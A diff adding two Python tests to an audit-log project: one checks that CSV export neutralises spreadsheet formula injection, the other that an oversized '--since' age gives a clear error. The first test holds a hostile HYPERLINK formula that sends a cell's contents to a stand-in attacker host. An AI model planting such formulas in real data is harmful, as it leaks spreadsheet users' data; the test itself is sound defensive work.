@@ -161,3 +161,25 @@ def test_rows_from_before_revision_0002_verify_and_stay_named(tmp_path: Path) ->
     assert (result.rows, result.legacy_rows) == (1, 1)
     assert [r.person_id for r in log.query(AuditFilter())] == ["alice", None, None]
     assert log.verify() == []
+
+
+def test_csv_export_neutralises_formulas(audit: AuditLog) -> None:
+    """Issue #11: an id or door name written like a formula must reach a spreadsheet as text."""
+    hostile = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
+    audit.record(door_id="@SUM(1+1)", decision="granted", person_id=hostile, best=0.99, second=0.5, threshold=0.9, margin=0.01, model_version="+m", quality={"inter_eye_px": 50.0})
+    rows = list(csv.DictReader(io.StringIO(to_csv(audit.query(AuditFilter(door_id="@SUM(1+1)"))))))
+    assert rows[0]["person_id"] == "'" + hostile
+    assert rows[0]["door_id"] == "'@SUM(1+1)" and rows[0]["model_version"] == "'+m"
+    assert not any(str(v).startswith(("=", "+", "@")) for row in rows for v in row.values())
+
+
+def test_an_age_beyond_the_calendar_is_a_clear_error(tmp_path: Path) -> None:
+    """Issue #11: `audit --since 99999999999d` used to end in an OverflowError traceback."""
+    import os
+    import subprocess
+    import sys
+
+    done = subprocess.run([sys.executable, "-m", "gatekeeper", "audit", "--since", "99999999999d"], capture_output=True, text=True, timeout=120,
+                          env={**os.environ, "GATEKEEPER_DATA_DIR": str(tmp_path / "data")})
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert "reaches before year 1" in " ".join(done.stderr.split()) and "Traceback" not in done.stderr
